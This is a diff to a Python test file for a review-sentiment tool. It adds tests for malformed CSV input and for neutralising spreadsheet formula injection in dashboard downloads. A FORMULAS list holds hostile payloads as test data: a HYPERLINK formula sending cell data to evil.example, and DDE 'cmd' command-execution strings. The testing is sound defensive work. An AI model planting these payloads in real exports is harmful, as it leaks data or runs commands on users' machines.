@@ -1,6 +1,8 @@
 """Hostile input to the CLI, predict, dashboard and store: clear words, no loss, no pickle."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import pickle
@@ -17,7 +19,7 @@ import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
 
-from dashboard import live_views
+from dashboard import live_views, views
 from storage.errors import StorageError
 from storage.models import RunRow
 from storage.store import open_store
@@ -181,7 +183,9 @@ def test_predict_file_reads_bom_crlf_quotes_and_hostile_rows(
     (b"\xef\xbb\xbftext\r\n", "has a header but no reviews"),
     (b"title,stars\r\nx,1\r\n", "expected a column named 'text' or 'review'"),
     (b"text\r\ngood\r\n   \r\n", "the review is empty"),
-    (b'text\r\n"' + b"a" * 150_000 + b'"\r\n', "is not a readable CSV"),
+    (b"text\r\n" + b"a" * 150_000 + b"\r\n",
+     "has a field longer than 131,072 characters on line 2; reviews are limited to 20,000"),
+    (b'text\r\ngood\r\n"unclosed\r\n' + b"more\r\n" * 30_000, "is not a readable CSV"),
 ])
 def test_predict_file_refuses_unreadable_csv_in_one_line(
     baseline_db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes,
@@ -194,7 +198,46 @@ def test_predict_file_refuses_unreadable_csv_in_one_line(
     assert message in _error_line(capsys)
 
 
+def test_predict_file_keeps_the_first_review_of_a_headerless_file_and_says_so(
+    baseline_db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    reviews = ["A superb, moving film", *VALID.values()]
+    path = tmp_path / "no-header.csv"
+    path.write_bytes("\r\n".join(f'"{r}"' for r in reviews).encode("utf-8"))
+    capsys.readouterr()
+    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 0
+    out, err = capsys.readouterr()
+    assert len(out.splitlines()) == len(reviews)  # stdout: only the JSON lines, the first too
+    assert all(json.loads(line)["label"] in ("positive", "negative") for line in out.splitlines())
+    assert err.splitlines() == [f"note: {path} has one column and no header row, so its first "
+                                "row was read as a review too; to give the file a header, name "
+                                "the column text"]
+    path.write_bytes(("Text\r\n" + "\r\n".join(f'"{r}"' for r in reviews)).encode("utf-8"))
+    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 0
+    out, err = capsys.readouterr()
+    assert len(out.splitlines()) == len(reviews) and err == ""  # Text is a header: no note
+
+
 # --- the dashboard's live page -------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def test_downloads_neutralise_formula_cells_in_every_text_column_only() -> None:
+    texts = [*FORMULAS, "A fine film - truly = great", "  =1+1 ", "good\r=1+1"]
+    frame = live_views.batch_frame(texts, [0.9] * len(texts), [None] * len(texts), "=model")
+    frame["id"] = ["-1", "@2", "3", "4", "5", "6", "7", "8", "9"]  # text, as an upload's column
+    frame["delta"] = [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]  # numbers, some negative: left alone
+    shown = frame.copy()
+    rows = list(csv.DictReader(io.StringIO(views.safe_csv(frame), newline="")))
+    assert [r["text"] for r in rows] == ["'" + t for t in FORMULAS] + texts[len(FORMULAS):]
+    assert {r["model"] for r in rows} == {"'=model"} and rows[0]["error"] == ""
+    assert [r["id"] for r in rows] == ["'-1", "'@2", "3", "4", "5", "6", "7", "8", "9"]
+    assert [float(r["delta"]) for r in rows] == [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]
+    assert [float(r["score"]) for r in rows] == [0.9] * len(texts)
+    assert frame.equals(shown)  # the page's table keeps the cells as they came
+
 
 
 def test_upload_reader_and_validation_handle_hostile_rows() -> None:
